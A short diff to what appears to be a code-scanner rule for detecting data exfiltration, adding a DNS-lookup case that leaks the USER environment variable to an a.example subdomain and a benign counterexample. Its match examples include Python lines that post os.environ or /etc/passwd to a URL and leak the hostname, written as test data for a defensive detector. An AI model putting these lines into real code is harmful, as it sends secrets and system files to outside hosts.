@@ -70,8 +70,12 @@ EXFILTRATION = python_rule(
         "import os, requests\nrequests.post(u, data=dict(os.environ))",
         "import requests\nrequests.post(u, data=open('/etc/passwd').read())",
         "import socket, requests\nrequests.get('http://a.example/?h=' + socket.gethostname())",
+        "import os, socket\nsocket.gethostbyname(os.environ['USER'] + '.a.example')",
     ),
-    not_match=("import requests\nrequests.post(u, data={'a': 1})",),
+    not_match=(
+        "import requests\nrequests.post(u, data={'a': 1})",
+        "import socket\nsocket.gethostbyname(socket.gethostname())",
+    ),
     cwe=200,
     owasp="LLM02",
 )
